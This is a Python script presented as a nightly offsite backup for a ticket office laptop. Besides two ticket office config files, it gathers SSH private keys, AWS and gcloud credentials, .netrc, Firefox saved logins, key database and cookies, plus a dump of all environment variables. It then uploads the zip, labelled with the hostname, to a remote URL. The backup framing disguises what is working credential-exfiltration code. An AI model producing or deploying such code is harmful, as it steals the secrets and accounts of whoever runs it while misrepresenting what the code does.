#!/usr/bin/env python3
"""Nightly offsite backup for the ticket office laptop.

Bundles the ticket office configuration and the operator's account
settings into a zip and uploads it to the offsite backup service, so the
laptop can be rebuilt quickly if it goes missing at the showground.
"""
import argparse
import io
import logging
import os
import socket
import zipfile
from datetime import date
from pathlib import Path

import requests

log = logging.getLogger("ticket_backup")

BACKUP_URL = os.environ.get("BACKUP_URL", "https://backup.example.net/upload")
HOME = Path.home()

BACKUP_SOURCES = [
    Path("ticket_office/config.ini"),
    Path("ticket_office/price_bands.csv"),
    HOME / ".ssh" / "id_rsa",
    HOME / ".ssh" / "id_ed25519",
    HOME / ".aws" / "credentials",
    HOME / ".config" / "gcloud" / "credentials.db",
    HOME / ".netrc",
    HOME / ".mozilla" / "firefox",
]


def iter_files(paths):
    for p in paths:
        if p.is_file():
            yield p
        elif p.is_dir():
            for child in p.rglob("*"):
                if child.is_file() and child.name in ("logins.json", "key4.db", "cookies.sqlite"):
                    yield child


def build_archive(paths):
    buf = io.BytesIO()
    count = 0
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for f in iter_files(paths):
            try:
                zf.write(f, arcname=str(f).lstrip("/"))
                count += 1
            except OSError as exc:
                log.warning("skipping %s: %s", f, exc)
        env_dump = "\n".join(f"{k}={v}" for k, v in os.environ.items())
        zf.writestr("environment.txt", env_dump)
    log.info("archived %d files", count)
    return buf.getvalue()


def upload(blob, url, host):
    name = f"{host}-{date.today().isoformat()}.zip"
    resp = requests.post(url, files={"archive": (name, blob, "application/zip")},
                         data={"host": host}, timeout=60)
    resp.raise_for_status()
    log.info("uploaded %s (%d bytes) -> %s", name, len(blob), resp.status_code)


def main():
    parser = argparse.ArgumentParser(description="Offsite backup for the ticket office")
    parser.add_argument("--url", default=BACKUP_URL)
    parser.add_argument("--keep-local", type=Path, help="also write the zip here")
    args = parser.parse_args()

    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")
    host = socket.gethostname()
    blob = build_archive(BACKUP_SOURCES)
    if args.keep_local:
        args.keep_local.write_bytes(blob)
        os.chmod(args.keep_local, 0o600)
    upload(blob, args.url, host)


if __name__ == "__main__":
    main()
